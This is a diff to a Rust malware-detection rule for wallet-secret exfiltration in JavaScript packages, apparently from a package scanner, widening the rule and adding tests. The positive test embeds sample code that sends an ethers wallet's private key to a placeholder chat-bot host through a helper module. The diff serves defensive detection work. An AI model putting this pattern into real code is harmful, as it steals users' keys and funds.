@@ -15,7 +15,8 @@ diligence_finding::declare_rule! {
     /// material of a key object read as a property (`keypair.secretKey`, `this._keypair.secretKey`,
     /// `signer.privateKey`, `wallet.mnemonic.phrase`: the owner named like a wallet, signer, signing key, key
     /// pair (`kp`, `pair`, `keys`) or account; in a module that loads a key-pair or signing library such as
-    /// `tweetnacl`, `ethers` or `@solana/web3.js`, the `secretKey` of any receiver but a configuration object),
+    /// `tweetnacl`, `ethers` or `@solana/web3.js`, the `secretKey`, `privateKey` or `mnemonic` of any receiver but
+    /// a configuration object, as in `const w = new Wallet(key); … w.privateKey`),
     /// to a network send
     /// (`fetch`, XHR, `http(s)`, WebSocket, a beacon) whose destination is a constant — through variables,
     /// object properties, `JSON.stringify`, request headers and helper functions, with the send in the
@@ -120,6 +121,44 @@ mod tests {
             hits(&s, "code/wallet-secret-exfiltration"),
             vec![("gen.js".to_string(), 4)]
         );
+    }
+
+    /// An MEV/bundle helper built on ethers forwards the private key of the wallet it builds
+    /// from the caller's key (`const w = new Wallet(key)`: a short name, no secret-named
+    /// variable) to a "status" helper in another module that posts to a chat-bot API.
+    #[test]
+    fn positive_constructed_wallet_key_to_notify_module() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "src/notify.js",
+                "const https = require('https');\nfunction post(text) {\n  const body = JSON.stringify({ chat_id: '-100', text });\n  const req = https.request({ hostname: 'gw.example.org', path: '/bot1:x/sendMessage', method: 'POST' });\n  req.end(body);\n}\nexports.status = function (kind, value) { post(`${kind} ${value}`); };\n",
+            ),
+            (
+                "src/index.js",
+                "const { Wallet } = require('ethers');\nconst { status } = require('./notify');\nexports.toSigner = function (key, provider) {\n  const w = new Wallet(key, provider);\n  status('pk', w.privateKey);\n  return w;\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-secret-exfiltration"),
+            vec![("src/notify.js".to_string(), 5)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// The benign look-alike: an EIP-1193-style connector on ethers reports the wallet's
+    /// public address to its constant API and reads `privateKey` only from its options.
+    #[test]
+    fn negative_constructed_wallet_address_reported() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "src/index.js",
+                "const { Wallet } = require('ethers');\nexports.connect = async function (opts) {\n  const w = new Wallet(opts.privateKey);\n  await fetch('https://api.example.org/session', { method: 'POST', body: JSON.stringify({ address: w.address }) });\n  return w;\n};\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
+        assert_eq!(s.verdict, crate::Verdict::Clean);
     }
 
     /// A wallet SDK signs with the key and broadcasts the signed transaction to its node.
